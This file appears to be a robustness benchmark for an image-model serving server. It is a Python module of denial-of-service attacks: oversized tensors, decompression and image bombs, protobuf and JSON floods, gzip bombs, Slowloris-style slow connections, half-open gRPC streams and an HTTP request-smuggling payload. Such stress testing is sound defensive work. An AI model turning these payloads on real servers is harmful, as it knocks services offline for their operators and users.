@@ -1,0 +1,697 @@
+"""The attacks of `serving_attacks.py`: each a way to send little and take much.
+
+An attack is called again and again while it lasts, from some threads at a time, and says in a word
+how it was answered. They are of every kind that `serving/README.md` says the server withstands.
+"""
+
+from __future__ import annotations
+
+import functools
+import gzip
+import http.client
+import json
+import os
+import socket
+import struct
+import time
+from base64 import b64encode
+from collections.abc import Callable, Iterator
+from contextlib import closing, suppress
+from dataclasses import dataclass, field
+from typing import Any
+
+import grpc
+
+from benchmarks import attack_bombs as bombs
+from benchmarks.attack_http2 import Connection
+from inception_serving import messages
+
+_PREDICTIONS = "/tensorflow.serving.PredictionService"
+_MODELS = "/tensorflow.serving.ModelService"
+_PREDICT = f"{_PREDICTIONS}/Predict"
+_TIMEOUT_S = 30
+_FLOAT, _UINT8, _STRING, _INT32 = 1, 4, 7, 3
+
+
+@dataclass
+class Target:
+    """A server of one model of images, as an export has it: `serving_default` reads `image_bytes`,
+    `predict_images` reads `images`, `classify` reads tf.Examples.
+
+    Attributes:
+        address, rest: where gRPC and REST answer, such as "127.0.0.1:8501".
+        model: its name.
+        image: one that it answers.
+    """
+
+    address: str
+    rest: str
+    model: str
+    image: bytes
+    channels: dict[str, Any] = field(default_factory=dict)
+
+    def call(self, method: str, data: bytes, *, compression: Any = None) -> str:
+        """Call a method with a message's bytes; the name of the status."""
+        options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
+        key = f"{compression}"
+        if key not in self.channels:
+            self.channels[key] = grpc.insecure_channel(self.address, options, compression)
+        try:
+            self.channels[key].unary_unary(method)(data, timeout=_TIMEOUT_S)
+        except grpc.RpcError as error:
+            return str(error.code().name)
+        return "OK"
+
+    def predict(self, signature: str, name: str, tensor: bytes) -> str:
+        inputs = bombs.tensor_input(name.encode(), tensor)
+        return self.call(_PREDICT, bombs.predict(self.model.encode(), signature.encode(), inputs))
+
+    def images(self, shape: tuple[int, ...], values: bytes = b"\x3a\1\1") -> str:
+        """`predict_images` of decoded images; by default all of one value, in one byte."""
+        return self.predict("predict_images", "images", _bomb("tensor", _UINT8, shape, values))
+
+    def image_bytes(self, *strings: bytes, shape: list[int] | None = None) -> str:
+        values = b"".join(bombs.part(8, string) for string in strings)
+        tensor = bombs.tensor(_STRING, [len(strings)] if shape is None else shape, values)
+        return self.predict("serving_default", "image_bytes", tensor)
+
+    def examples(self, *examples: bytes) -> str:
+        values = b"".join(bombs.part(8, string) for string in examples)
+        return self.predict("classify", "inputs", bombs.tensor(_STRING, [len(examples)], values))
+
+    def classify(self, examples: bytes) -> str:
+        """The Classify method; `examples` is an ExampleList."""
+        spec = bombs.part(1, bombs.part(1, self.model.encode()) + bombs.part(3, b"classify"))
+        return self.call(f"{_PREDICTIONS}/Classify", spec + bombs.part(2, bombs.part(1, examples)))
+
+    def post(self, body: bytes, *, headers: dict[str, str] | None = None, verb: str = "") -> str:
+        path = verb or f"/v1/models/{self.model}:predict"
+        with closing(http.client.HTTPConnection(self.rest, timeout=_TIMEOUT_S)) as connection:
+            connection.request("POST", path, body, headers or {})
+            response = connection.getresponse()
+            response.read()
+        return str(response.status)
+
+    def raw(self, data: bytes, *, wait_s: float = 5.0, port: str = "") -> str:
+        """Bytes on a connection to REST; the first word after the version of what comes back."""
+        host, _, number = (port or self.rest).rpartition(":")
+        with closing(socket.create_connection((host, int(number)), timeout=wait_s)) as client:
+            with suppress(OSError):
+                client.sendall(data)
+            try:
+                answer = client.recv(4096)
+            except TimeoutError:
+                return "waits"
+            except OSError:
+                return "closed"
+        return answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"
+
+
+Attack = Callable[[Target], str]
+
+
+@dataclass(frozen=True)
+class Named:
+    """An attack, with its kind and how many threads call it."""
+
+    run: Attack
+    kind: str
+    threads: int
+
+
+ATTACKS: dict[str, Named] = {}
+
+
+def attack(kind: str, threads: int = 2) -> Callable[[Attack], Attack]:
+    def add(run: Attack) -> Attack:
+        ATTACKS[run.__name__] = Named(run, kind, threads)
+        return run
+
+    return add
+
+
+def _add(name: str, kind: str, run: Attack, threads: int = 2) -> None:
+    ATTACKS[name] = Named(run, kind, threads)
+
+
+@functools.cache
+def _bomb(kind: str, *arguments: Any) -> bytes:
+    """A bomb that is made once."""
+    return bytes(getattr(bombs, kind)(*arguments))
+
+
+# ---- tensors ----
+
+for _name, _shape in {
+    "dims_20000": [2**62] * 20000,
+    "dims_300_of_1": [1] * 300,
+    "dims_254_of_max": [2**63 - 1] * 254,
+    "dims_then_zero": [2**40, 2**40, 0],
+    "rows_600000_of_a_pixel": [600_000, 1, 1, 3],
+    "rows_2000_of_a_pixel": [2_000, 1, 1, 3],
+    "wide_image": [1, 1, 20_000_000, 3],
+    "tall_image": [1, 20_000_000, 1, 3],
+    "large_image": [1, 20_000, 20_000, 3],
+    "many_wide_images": [100, 1, 30_000, 3],
+    "images_of_400_pixels": [100, 400, 400, 3],
+}.items():
+    _add(_name, "tensors", lambda target, shape=tuple(_shape): target.images(shape))  # type: ignore[misc]
+
+
+@attack("tensors")
+def repeated_float(target: Target) -> str:
+    tensor = bombs.tensor(_FLOAT, [2**28], b"\x2d" + struct.pack("<f", 1))
+    return target.predict("predict_images", "images", tensor)
+
+
+@attack("tensors")
+def repeated_string(target: Target) -> str:
+    return target.image_bytes(_bomb("encoded", "JPEG", 1000, 1000) + bytes(1 << 20), shape=[9000])
+
+
+@attack("tensors")
+def repeated_image(target: Target) -> str:
+    """An honest image, very often."""
+    return target.image_bytes(target.image, shape=[20_000])
+
+
+@attack("tensors")
+def million_empty_strings(target: Target) -> str:
+    return target.image_bytes(shape=[1 << 20])
+
+
+@attack("tensors")
+def hundred_million_strings(target: Target) -> str:
+    return target.image_bytes(shape=[100_000_000])
+
+
+@attack("tensors")
+def strings_on_the_wire(target: Target) -> str:
+    return target.predict(
+        "serving_default", "image_bytes", _bomb("tensor", _STRING, (1,), b"\x42\0" * 10_000_000)
+    )
+
+
+@attack("tensors")
+def endless_varint(target: Target) -> str:
+    content = bombs.part(4, b"\xff" * 2_000_000 + b"\1")
+    return target.predict("serving_default", "image_bytes", bombs.tensor(_STRING, [1], content))
+
+
+@attack("tensors")
+def lengths_of_strings(target: Target) -> str:
+    content = bombs.part(4, bytes(1 << 20))
+    return target.predict(
+        "serving_default", "image_bytes", bombs.tensor(_STRING, [1 << 20], content)
+    )
+
+
+@attack("tensors")
+def dims_on_the_wire(target: Target) -> str:
+    tensor = b"\x08\4" + bombs.part(2, b"\x12\0" * 10_000_000)
+    return target.predict("predict_images", "images", tensor)
+
+
+@attack("tensors")
+def packed_integers(target: Target) -> str:
+    tensor = bombs.tensor(_INT32, [1], bombs.part(7, bytes(50_000_000)))
+    return target.predict("predict_images", "images", tensor)
+
+
+@attack("tensors")
+def unpacked_integers(target: Target) -> str:
+    tensor = bombs.tensor(_INT32, [1], b"\x38\0" * 20_000_000)
+    return target.predict("predict_images", "images", tensor)
+
+
+@attack("tensors")
+def nested_variants(target: Target) -> str:
+    tensor = b""
+    for _ in range(90):
+        tensor = bombs.part(15, bombs.part(3, tensor))
+    return target.predict("predict_images", "images", tensor * 1000)
+
+
+@attack("tensors")
+def many_inputs(target: Target) -> str:
+    inputs = b"".join(bombs.tensor_input(b"%d" % number, b"") for number in range(300_000))
+    return target.call(_PREDICT, bombs.predict(target.model.encode(), b"", inputs))
+
+
+@attack("tensors")
+def many_outputs(target: Target) -> str:
+    return target.call(_PREDICT, bombs.predict(target.model.encode(), b"", b"\x1a\1x" * 5_000_000))
+
+
+@attack("tensors")
+def content_of_100_mb(target: Target) -> str:
+    return target.images((1, 1, 1, 3), bombs.part(4, bytes(100_000_000)))
+
+
+# ---- images ----
+
+_CODED: dict[str, tuple[str, tuple[Any, ...]]] = {
+    "png_of_400_megapixels": ("png", (20_000, 20_000)),
+    "png_of_64_megapixels": ("png", (8_000, 8_000)),
+    "png_of_one_row": ("png", (900_000, 1)),
+    "jpeg_of_250_megapixels": ("encoded", ("JPEG", 25_000, 10_000)),
+    "jpeg_of_64_megapixels": ("encoded", ("JPEG", 8_000, 8_000)),
+    "jpeg_of_4000_scans": ("progressive_jpeg", (8_000, 8_000, 4_000)),
+    "jpeg_of_60_scans": ("progressive_jpeg", (8_000, 8_000, 60)),
+    "small_jpeg_of_100000_scans": ("progressive_jpeg", (8, 8, 100_000)),
+    "gif_beyond_its_screen": ("gif", (46_000, 46_000)),
+    "gif_of_64_megapixels": ("gif", (8_000, 8_000)),
+    "bmp_of_much": ("bmp", (30_000, -30_000)),
+    "webp_of_much": ("webp", (1 << 24, 1 << 24)),
+}
+for _name, (_kind, _arguments) in _CODED.items():
+    _add(
+        _name,
+        "images",
+        lambda target, kind=_kind, arguments=_arguments: target.image_bytes(  # type: ignore[misc]
+            _bomb(kind, *arguments)
+        ),
+    )
+
+
+@attack("images")
+def png_with_a_chunk_before_its_header(target: Target) -> str:
+    before = bombs.png_chunk(b"teSt", struct.pack(">II", 8, 8) + bytes(5))
+    image = _bomb("png", 20_000, 20_000).replace(bombs.PNG_START, bombs.PNG_START + before, 1)
+    return target.image_bytes(image)
+
+
+@attack("images")
+def jpeg_with_bytes_before_its_frame(target: Target) -> str:
+    image = _bomb("encoded", "JPEG", 25_000, 10_000)
+    return target.image_bytes(image[:2] + b"\xff\xe0\0\2" + b"\0" * 1000 + image[2:])
+
+
+@attack("images")
+def jpeg_of_many_segments(target: Target) -> str:
+    image = _bomb("encoded", "JPEG", 25_000, 10_000)
+    return target.image_bytes(image[:2] + b"\xff\xfe\0\2" * 500_000 + image[2:])
+
+
+@attack("images")
+def jpeg_of_padding(target: Target) -> str:
+    return target.image_bytes(b"\xff\xd8" + b"\xff" * 10_000_000 + b"\0" * 100)
+
+
+@attack("images")
+def gif_of_many_frames(target: Target) -> str:
+    return target.image_bytes(_gif_frames(1000, 1000, 300))
+
+
+@functools.cache
+def _gif_frames(width: int, height: int, frames: int) -> bytes:
+    return bombs.gif(width, height, frames=frames)
+
+
+@attack("images")
+def gif_of_small_blocks(target: Target) -> str:
+    return target.image_bytes(bombs.gif(1, 1)[:-1] + b"!\xfe" + b"\1\0" * 10_000_000)
+
+
+@attack("images")
+def webp_with_frames(target: Target) -> str:
+    return target.image_bytes(bombs.webp(100, 100, flags=2))
+
+
+@attack("images")
+def webp_of_no_kind(target: Target) -> str:
+    return target.image_bytes(bombs.webp(100, 100, kind=b"VP8Z"))
+
+
+@attack("images")
+def jpeg_xl(target: Target) -> str:
+    return target.image_bytes(b"\xff\x0a" + os.urandom(1000))
+
+
+@attack("images")
+def sixteen_photos(target: Target) -> str:
+    return target.image_bytes(*[_bomb("encoded", "JPEG", 4000, 3000)] * 16)
+
+
+@attack("images", threads=8)
+def large_images_side_by_side(target: Target) -> str:
+    return target.image_bytes(_bomb("encoded", "JPEG", 8000, 8000))
+
+
+@attack("images")
+def thousand_small_images(target: Target) -> str:
+    return target.image_bytes(*[target.image] * 1000)
+
+
+@attack("images")
+def ten_thousand_small_images(target: Target) -> str:
+    return target.image_bytes(*[target.image] * 10_000)
+
+
+@attack("images")
+def gif_in_an_example(target: Target) -> str:
+    return target.examples(bombs.example(_bomb("gif", 46_000, 46_000)))
+
+
+@attack("images")
+def example_with_a_name_that_is_no_text(target: Target) -> str:
+    odd = bombs.feature(b"\xff\xfe", b"x")
+    return target.examples(bombs.example(_bomb("png", 20_000, 20_000), after=odd))
+
+
+@attack("images")
+def example_with_a_feature_twice(target: Target) -> str:
+    small = bombs.feature(b"image/encoded", target.image)
+    return target.examples(bombs.example(_bomb("png", 20_000, 20_000), after=small))
+
+
+@attack("images")
+def example_behind_unknown_fields(target: Target) -> str:
+    return target.examples(b"\x7a\0" * 1000 + bombs.example(_bomb("png", 20_000, 20_000)))
+
+
+@attack("images")
+def sequence_example(target: Target) -> str:
+    return target.examples(bombs.sequence_example(_bomb("png", 20_000, 20_000)))
+
+
+@attack("images")
+def example_of_many_features(target: Target) -> str:
+    return target.examples(bombs.part(1, b"\x0a\0" * 5_000_000))
+
+
+@attack("images")
+def examples_on_the_wire(target: Target) -> str:
+    return target.classify(b"\x0a\0" * 5_000_000)
+
+
+@attack("images")
+def classify_a_bomb(target: Target) -> str:
+    return target.classify(bombs.part(1, bombs.example(_bomb("png", 20_000, 20_000))))
+
+
+# ---- gRPC's transport ----
+
+
+@attack("grpc")
+def gzip_of_600_mb(target: Target) -> str:
+    return target.call(_PREDICT, bytes(600 << 20), compression=grpc.Compression.Gzip)
+
+
+@attack("grpc", threads=4)
+def gzip_of_100_mb(target: Target) -> str:
+    return target.call(_PREDICT, bytes(100 << 20), compression=grpc.Compression.Gzip)
+
+
+@attack("grpc", threads=8)
+def messages_of_100_mb(target: Target) -> str:
+    return target.call(_PREDICT, bytes(100 << 20))
+
+
+@attack("grpc")
+def message_of_600_mb(target: Target) -> str:
+    return target.call(_PREDICT, bytes(600 << 20))
+
+
+@attack("grpc", threads=1)
+def halves_of_messages(target: Target) -> str:
+    """32 connections, each with a message of 100 MB of which the end never comes."""
+    head = b"\0" + struct.pack(">I", 100 << 20)
+    connections = [Connection(target.address) for _ in range(32)]
+    part = bytes(1 << 20)
+    calls = [(each, each.begin(_PREDICT)) for each in connections]
+    for each, stream in calls:
+        each.send(stream, head)
+    for _ in range(95):
+        for each, stream in calls:
+            each.send(stream, part, wait_s=0.2)
+    for each in connections:
+        each.close()
+    return "half"
+
+
+def _half_open(target: Target, connections: int, calls: int, path: str = _PREDICT) -> str:
+    opened = [Connection(target.address) for _ in range(connections)]
+    for each in opened:
+        for _ in range(calls):
+            with suppress(OSError):
+                each.begin(path)
+    time.sleep(3)
+    for each in opened:
+        each.close()
+    return "no message"
+
+
+@attack("grpc", threads=1)
+def calls_without_a_message(target: Target) -> str:
+    return _half_open(target, 1, 1024)
+
+
+@attack("grpc", threads=1)
+def calls_without_a_message_on_many_connections(target: Target) -> str:
+    return _half_open(target, 100, 100)
+
+
+@attack("grpc", threads=1)
+def health_without_a_message(target: Target) -> str:
+    return _half_open(target, 4, 100, "/grpc.health.v1.Health/Check")
+
+
+@attack("grpc", threads=1)
+def watches_without_a_message(target: Target) -> str:
+    return _half_open(target, 4, 100, "/grpc.health.v1.Health/Watch")
+
+
+@attack("grpc", threads=1)
+def calls_of_no_method(target: Target) -> str:
+    return _half_open(target, 10, 100, "/a.B/C")
+
+
+@attack("grpc", threads=1)
+def idle_connections(target: Target) -> str:
+    host, _, port = target.address.rpartition(":")
+    clients = [socket.create_connection((host, int(port))) for _ in range(1500)]
+    time.sleep(3)
+    for client in clients:
+        client.close()
+    return "idle"
+
+
+@attack("grpc")
+def another_protocol(target: Target) -> str:
+    return target.raw(b"GET / HTTP/1.1\r\n\r\n", port=target.address)
+
+
+@attack("grpc", threads=4)
+def bytes_that_are_no_message(target: Target) -> str:
+    return target.call(_PREDICT, b"\xff" * 1000)
+
+
+@attack("grpc", threads=4)
+def unknown_methods(target: Target) -> str:
+    return target.call("/tensorflow.serving.PredictionService/Nothing", b"")
+
+
+@attack("grpc", threads=4)
+def models_that_are_not_there(target: Target) -> str:
+    return target.call(_PREDICT, bombs.predict(os.urandom(8).hex().encode(), b"", b""))
+
+
+@attack("grpc")
+def reload_to_nothing(target: Target) -> str:
+    request = messages.ReloadConfigRequest()
+    request.config.model_config_list.SetInParent()
+    return target.call(f"{_MODELS}/HandleReloadConfigRequest", request.SerializeToString())
+
+
+# ---- REST's transport, and its bodies ----
+
+
+def _rows(text: str) -> bytes:
+    return f'{{"instances": {text}}}'.encode()
+
+
+@attack("json")
+def error_that_quotes_nested_lists(target: Target) -> str:
+    nested = b"[" * 900 + b"1," * 99_999 + b"1" + b"]" * 900
+    return target.post(b'{"inputs":1,"instances":' + nested + b"}")
+
+
+@attack("json")
+def a_million_brackets(target: Target) -> str:
+    return target.post(b"[" * 1_000_000)
+
+
+@attack("json")
+def lists_of_nothing(target: Target) -> str:
+    return target.post(_rows("[" + "[]," * 5_000_000 + "[]]"))
+
+
+@attack("json")
+def objects_of_nothing(target: Target) -> str:
+    return target.post(_rows("[" + "{}," * 5_000_000 + "{}]"))
+
+
+@attack("json")
+def floats_in_json(target: Target) -> str:
+    return target.post(_rows("[" + "0.5," * 4_000_000 + "0.5]"))
+
+
+@attack("json")
+def long_integers(target: Target) -> str:
+    return target.post(_rows("[" + "9" * 1_000_000 + "]"))
+
+
+@attack("json")
+def many_keys(target: Target) -> str:
+    keys = ",".join(f'"{number}":1' for number in range(1_000_000))
+    return target.post(f"{{{keys}}}".encode())
+
+
+@attack("json")
+def surrogates(target: Target) -> str:
+    return target.post(_rows('["' + "\\ud800" * 1_000_000 + '"]'))
+
+
+@attack("json")
+def a_body_of_200_mb(target: Target) -> str:
+    return target.post(b" " * 200_000_000)
+
+
+@attack("json")
+def base64_of_60_mb(target: Target) -> str:
+    return target.post(_rows('[{"b64": "' + "A" * 60_000_000 + '"}]'))
+
+
+@attack("json")
+def png_in_json(target: Target) -> str:
+    image = b64encode(_bomb("png", 20_000, 20_000)).decode()
+    return target.post(json.dumps({"instances": [{"b64": image}]}).encode())
+
+
+@functools.cache
+def _gzip(size: int) -> bytes:
+    return gzip.compress(b'{"instances": [' + b" " * size + b"1]}")
+
+
+@attack("json")
+def gzip_body_of_90_mb(target: Target) -> str:
+    return target.post(_gzip(90 << 20), headers={"Content-Encoding": "gzip"})
+
+
+@attack("json")
+def gzip_body_of_1_gb(target: Target) -> str:
+    return target.post(_gzip(1 << 30), headers={"Content-Encoding": "gzip"})
+
+
+def _many_connections(target: Target, data: bytes, count: int = 1100) -> str:
+    host, _, port = target.rest.rpartition(":")
+    clients = []
+    for _ in range(count):
+        client = socket.create_connection((host, int(port)))
+        with suppress(OSError):
+            client.sendall(data)
+        clients.append(client)
+    for _ in range(3):
+        time.sleep(1)
+        for client in clients:
+            with suppress(OSError):
+                client.sendall(b" ")
+    for client in clients:
+        client.close()
+    return "slow"
+
+
+def _head(target: Target, *lines: str, host: str = "localhost") -> bytes:
+    path = f"/v1/models/{target.model}:predict"
+    return "\r\n".join([f"POST {path} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode()
+
+
+@attack("rest", threads=1)
+def slow_heads(target: Target) -> str:
+    return _many_connections(target, _head(target)[:30])
+
+
+@attack("rest", threads=1)
+def slow_bodies(target: Target) -> str:
+    return _many_connections(target, _head(target, "Content-Length: 1000") + b"{")
+
+
+@attack("rest", threads=1)
+def connections_that_say_nothing(target: Target) -> str:
+    return _many_connections(target, b"")
+
+
+@attack("rest")
+def length_and_chunks(target: Target) -> str:
+    head = _head(target, "Content-Length: 4", "Transfer-Encoding: chunked")
+    smuggled = f"GET /v1/models/{target.model} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
+    return target.raw(head + b"0\r\n\r\n" + smuggled)
+
+
+@attack("rest")
+def chunks_of_a_byte(target: Target) -> str:
+    head = _head(target, "Transfer-Encoding: chunked")
+    return target.raw(head + b"1\r\n \r\n" * 1_000_000 + b"0\r\n\r\n", wait_s=20)
+
+
+@attack("rest")
+def a_head_without_end(target: Target) -> str:
+    return target.raw(_head(target)[:-2] + b"x: y\r\n" * 1_000_000)
+
+
+@attack("rest")
+def a_line_without_end(target: Target) -> str:
+    return target.raw(b"GET /" + b"a" * 10_000_000)
+
+
+@attack("rest")
+def requests_one_behind_the_other(target: Target) -> str:
+    one = f"GET /v1/models/{target.model} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
+    return target.raw(one * 5_000)
+
+
+@attack("rest", threads=8)
+def answers_that_nobody_takes(target: Target) -> str:
+    one = f"GET /v1/models/{target.model}/metadata HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
+    host, _, port = target.rest.rpartition(":")
+    with closing(socket.create_connection((host, int(port)))) as client:
+        with suppress(OSError):
+            client.settimeout(0.5)
+            client.sendall(one * 2_000)
+        time.sleep(1)
+    return "untaken"
+
+
+# ---- the web ----
+
+
+@attack("web", threads=4)
+def another_host(target: Target) -> str:
+    return target.post(b'{"instances": []}', headers={"Host": "rebound.example"})
+
+
+@attack("web", threads=4)
+def a_foreign_page(target: Target) -> str:
+    return target.post(b'{"instances": []}', headers={"Origin": "https://evil.example"})
+
+
+@attack("web", threads=4)
+def a_form_of_another_site(target: Target) -> str:
+    return target.post(b'{"instances": []}', headers={"Sec-Fetch-Site": "cross-site"})
+
+
+# ---- work that does not end while the server is to ----
+
+
+@attack("stop", threads=8)
+def large_batches_without_end(target: Target) -> str:
+    return target.image_bytes(*[target.image] * 1500)
+
+
+def of_kinds(only: str) -> Iterator[tuple[str, Named]]:
+    """The attacks whose names or kinds hold one of the words."""
+    words = [word for word in only.split(",") if word]
+    for name, each in ATTACKS.items():
+        if not words or any(word in name or word == each.kind for word in words):
+            yield name, each
